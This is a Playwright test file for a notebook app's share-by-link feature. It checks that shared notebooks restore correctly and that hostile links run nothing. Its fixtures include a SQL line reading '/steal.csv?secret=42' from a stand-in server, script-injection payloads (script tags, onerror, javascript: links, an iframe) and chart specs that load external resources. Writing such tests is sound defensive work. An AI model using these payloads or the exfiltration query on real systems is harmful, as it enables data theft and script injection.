// Pins sharing a notebook by link in Chromium: "Copy link" puts the notebook in the URL and a fresh
// browser opens the same notebook (cells in order, a note, SQL, dates, comparison); SQL from a link
// that differs from the pinned modules is listed (edits diffed) and nothing of it runs before the
// reader approves; hostile links (garbage, cut short, huge) are refused with a sentence and run
// nothing; a chart spec asking for an external image or data and markdown with script stay inert.
// A local server on another port records any request: it must see none.
import { expect, test, type Page } from '@playwright/test';
import { notebookDocVersion, notebookFormat, type NotebookDoc } from '../../src/lib/notebookDoc';
import { encodeNotebookLink } from '../../src/lib/notebookLink';
import { guardOrigin, runSqlCell } from './helpers';
import { openAt, readyTimeout, recordingServer, type Recorder } from './shareHelpers';

guardOrigin();

let recorder: Recorder;
test.beforeAll(async () => {
  recorder = await recordingServer();
});
test.afterAll(() => recorder.close());

const cellOrder = (page: Page) => page.locator('article[data-cell]').evaluateAll((cells) => cells.map((c) => c.getAttribute('data-cell')));
const runDone = (page: Page) => expect(page.locator('.notebook')).toHaveAttribute('data-run-phase', 'done', { timeout: readyTimeout });

async function copiedLink(page: Page): Promise<{ link: string; length: number }> {
  const before = await page.evaluate(() => navigator.clipboard.readText().catch(() => ''));
  await page.getByTestId('copy-link').click();
  // The confirmation fades: it is checked at once, the length read from the button.
  await expect(page.getByText(/Link copied \([\d,]+ characters\)/).last()).toBeVisible();
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).not.toBe(before);
  const link = await page.evaluate(() => navigator.clipboard.readText());
  const length = Number(await page.getByTestId('copy-link').getAttribute('data-link-length'));
  expect(link.length).toBe(length);
  return { link, length };
}

test('a copied link opens the same notebook in a fresh browser: cells, note, SQL, dates, comparison', async ({ page, browser }) => {
  test.setTimeout(3 * readyTimeout);
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await openAt(page);
  const plain = await copiedLink(page);
  console.log(`link length, default notebook: ${plain.length}`);

  await page.getByTestId('preset').selectOption('last90');
  await page.getByTestId('compare-mode').selectOption('lastYear');
  await page.getByRole('button', { name: /Add a note/ }).click();
  await page.getByRole('textbox', { name: /note/i }).fill('## Spring review\nWhy **repeat** customers matter.');
  await runSqlCell(page, 'select 41 + 1 as answer');
  const edited = await copiedLink(page);
  console.log(`link length, edited notebook: ${edited.length}`);
  expect(edited.link).toContain('#n=');
  await runDone(page);
  const order = await cellOrder(page);
  expect(order.slice(-2)).toEqual(['markdown', 'sql']);

  const fresh = await browser.newContext();
  const other = await fresh.newPage();
  await other.goto(edited.link);
  const review = other.getByTestId('review-dialog');
  await expect(review).toBeVisible({ timeout: readyTimeout });
  await expect(review.getByTestId('review-item')).toHaveCount(1);
  await expect(review).toContainText('select 41 + 1 as answer');
  await review.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(other.locator('.shell')).toHaveAttribute('data-state', 'ready', { timeout: readyTimeout });
  await runDone(other);
  await expect(other.locator('article[data-cell]')).toHaveCount(order.length);
  expect(await cellOrder(other)).toEqual(order);
  await expect(other.getByTestId('preset')).toHaveValue('last90');
  await expect(other.getByTestId('compare-mode')).toHaveValue('lastYear');
  await expect(other.getByTestId('markdown')).toContainText('Why repeat customers matter.');
  await expect(other.locator('article[data-cell="sql"] tbody td').first()).toHaveText('42', { timeout: readyTimeout });
  await fresh.close();
});

function doc(cells: NotebookDoc['cells'], sources: NotebookDoc['sources'] = [{ kind: 'sample' }]): NotebookDoc {
  return { format: notebookFormat, version: notebookDocVersion, name: 'From a colleague', cells, scope: { preset: 'all', compare: 'previous' }, sources };
}

test('edited SQL from a link is shown, diffed, and runs nothing until approved', async ({ page }) => {
  test.setTimeout(2 * readyTimeout);
  const leak = `select count(*)::double as net_revenue from read_csv('http://127.0.0.1:${recorder.port}/steal.csv?secret=42')`;
  const fragment = await encodeNotebookLink(
    doc(
      [
        { kind: 'module', ref: 'order_count@1' },
        { kind: 'module', ref: 'average_order_value@1' },
        { kind: 'module', ref: 'net_revenue@1', sql: leak },
        { kind: 'sql', title: 'Answer', sql: 'select 41 + 1 as answer' },
      ],
      [{ kind: 'sample' }, { kind: 'url', url: `http://127.0.0.1:${recorder.port}/orders.csv?from=link` }, { kind: 'file', name: 'crm export.csv', table: 'customers' }],
    ),
  );
  await page.goto(`./#${fragment}`);
  const review = page.getByTestId('review-dialog');
  await expect(review).toBeVisible({ timeout: readyTimeout });
  await expect(review.getByTestId('review-item')).toHaveCount(2);
  await expect(review.locator('.added')).toContainText('steal.csv');
  await expect(review.locator('.removed').first()).toBeVisible();
  await expect(review).toContainText('select 41 + 1 as answer');
  await expect(review).toContainText(`http://127.0.0.1:${recorder.port}/orders.csv?from=link`);
  await page.screenshot({ path: test.info().outputPath('review-dialog.png') });
  // Behind the dialog the page starts and runs the pinned module; the link's own SQL waits.
  await expect(page.locator('.shell')).toHaveAttribute('data-state', 'ready', { timeout: readyTimeout });
  await runDone(page);
  await expect(page.locator('article[data-cell="order_count"] [data-testid="headline"]')).not.toBeEmpty();
  // A cell pinned to an older version runs that version and offers the current one.
  const pinned = page.locator('article[data-cell="average_order_value"]');
  await expect(pinned.getByTestId('headline')).not.toBeEmpty();
  await expect(pinned.getByTestId('upgrade-note')).toContainText('pinned to version 1');
  await expect(pinned.getByTestId('upgrade-note').getByRole('button', { name: 'Use version 3' })).toBeVisible();
  for (const held of [page.locator('article[data-cell="net_revenue"]'), page.locator('article[data-cell="sql"]')]) {
    await expect(held.getByTestId('cell-held')).toBeVisible();
    await expect(held.locator('tbody')).toHaveCount(0);
    await expect(held.getByTestId('headline')).toHaveCount(0);
  }
  await expect(page.getByText(/files you have to drop again: crm export\.csv \(customers\)/)).toBeVisible();
  expect(recorder.requests).toEqual([]);

  await review.getByRole('button', { name: 'Open without running' }).click();
  await expect(review).toHaveCount(0);
  await expect(page.locator('article[data-cell="sql"]').getByTestId('cell-held')).toBeVisible();
  await expect(page.getByText(/web addresses were not loaded/)).toBeVisible();
  // The reader runs one cell on purpose: it runs, and the edited module's leak is still refused.
  await page.locator('article[data-cell="sql"]').getByTestId('cell-held').getByRole('button', { name: 'Run' }).click();
  await expect(page.locator('article[data-cell="sql"] tbody td').first()).toHaveText('42');
  await page.locator('article[data-cell="net_revenue"]').getByTestId('cell-held').getByRole('button', { name: 'Run' }).click();
  await expect(page.locator('article[data-cell="net_revenue"]').getByTestId('cell-error')).toContainText(/disabled (by|through) configuration/);
  expect(recorder.requests).toEqual([]);
});

test('a link is read once: after a reload its kept copy opens, its SQL still waiting for approval', async ({ page }) => {
  test.setTimeout(3 * readyTimeout);
  const fragment = await encodeNotebookLink(doc([{ kind: 'module', ref: 'order_count@1' }, { kind: 'sql', title: 'Answer', sql: 'select 41 + 1 as answer' }]));
  await page.goto(`./#${fragment}`);
  const review = page.getByTestId('review-dialog');
  await expect(review).toBeVisible({ timeout: readyTimeout });
  await review.getByRole('button', { name: 'Open without running' }).click();
  await expect(page.locator('.shell')).toHaveAttribute('data-state', 'ready', { timeout: readyTimeout });
  // The link left the address: a reload opens the kept copy, not the link again.
  expect(new URL(page.url()).hash).toBe('');
  await runDone(page);
  await page.reload();
  await expect(page.locator('.shell')).toHaveAttribute('data-state', 'ready', { timeout: readyTimeout });
  await runDone(page);
  await expect(review).toHaveCount(0);
  expect(await cellOrder(page)).toEqual(['order_count', 'sql']);
  const sql = page.locator('article[data-cell="sql"]');
  await expect(sql.getByTestId('cell-held')).toBeVisible();
  await expect(sql.locator('tbody')).toHaveCount(0);
  await sql.getByTestId('cell-held').getByRole('button', { name: 'Run' }).click();
  await expect(sql.locator('tbody td').first()).toHaveText('42', { timeout: readyTimeout });
});

test('garbage, cut-short and huge links are refused with a sentence; the page opens as usual and runs nothing of them', async ({ page }) => {
  test.setTimeout(2 * readyTimeout);
  const good = await encodeNotebookLink(doc([{ kind: 'sql', sql: 'select 1 as one' }]));
  const cases: [string, RegExp][] = [
    ['n=%%%<script>alert(1)</script>', /characters a notebook link never has/],
    [good.slice(0, Math.floor(good.length * 0.6)), /cut short|characters a notebook link never has|not JSON/],
    [`n=${'A'.repeat(300_000)}`, /longer than 200,000 characters/],
    [await encodeNotebookLink({ ...doc([]), cells: [{ kind: 'module', ref: 'exfiltrate@1' }] }), /KPI versions this page does not have: cells\[0\] exfiltrate@1/],
  ];
  for (const [i, [fragment, why]] of cases.entries()) {
    // A query that differs each time: a change of fragment alone would not load the page again.
    await page.goto(`./?case=${i}#${fragment}`);
    await expect(page.getByRole('alert').filter({ hasText: 'This link does not hold a notebook Clientele can open, and nothing of it was used' })).toContainText(why, { timeout: readyTimeout });
    await expect(page.getByTestId('review-dialog')).toHaveCount(0);
  }
  await expect(page.locator('.shell')).toHaveAttribute('data-state', 'ready', { timeout: readyTimeout });
  await expect(page.locator('article[data-cell="net_revenue"]')).toBeVisible();
  await expect(page.locator('article[data-cell="sql"]')).toHaveCount(0);
  expect(recorder.requests).toEqual([]);
});

test('a chart spec asking for an external image or data, and markdown with script, stay inert', async ({ page }) => {
  test.setTimeout(2 * readyTimeout);
  const at = (path: string) => `http://127.0.0.1:${recorder.port}/${path}`;
  const fragment = await encodeNotebookLink(
    doc([
      { kind: 'markdown', text: `# Hello\n<script>window.pwned = 1</script>\n<img src="${at('pixel.png')}" onerror="window.pwned = 2">\n[click](javascript:window.pwned=3)\n<iframe src="${at('frame')}"></iframe>` },
      { kind: 'sql', title: 'Image', sql: 'select 1 as x, 2 as y', chart: { spec: { mark: 'image', encoding: { x: { field: 'x', type: 'quantitative' }, url: { value: at('image.png') } } } } },
      { kind: 'sql', title: 'Data', sql: 'select 1 as x, 2 as y', chart: { spec: { layer: [{ data: { url: at('data.csv') }, mark: 'point', encoding: { x: { field: 'x', type: 'quantitative' } } }] } } },
      { kind: 'sql', title: 'Link', sql: 'select 1 as x, 2 as y', chart: { spec: { mark: 'point', encoding: { x: { field: 'x', type: 'quantitative' }, href: { value: 'javascript:window.pwned=4' } } } } },
    ]),
  );
  await page.goto(`./#${fragment}`);
  await page.getByTestId('review-dialog').getByRole('button', { name: 'Run', exact: true }).click();
  await expect(page.locator('.shell')).toHaveAttribute('data-state', 'ready', { timeout: readyTimeout });
  const note = page.getByTestId('markdown');
  await expect(note).toContainText('Hello');
  expect(await note.locator('script, iframe, [onerror]').count()).toBe(0);
  await note.getByText('click').click().catch(() => undefined);
  const charts = page.locator('article[data-cell="sql"]');
  await expect(charts).toHaveCount(3);
  for (let i = 0; i < 3; i++) await expect(charts.nth(i).getByTestId('chart-error')).toContainText(/asks to load or link to something outside the page/, { timeout: readyTimeout });
  expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
  expect(recorder.requests).toEqual([]);
});
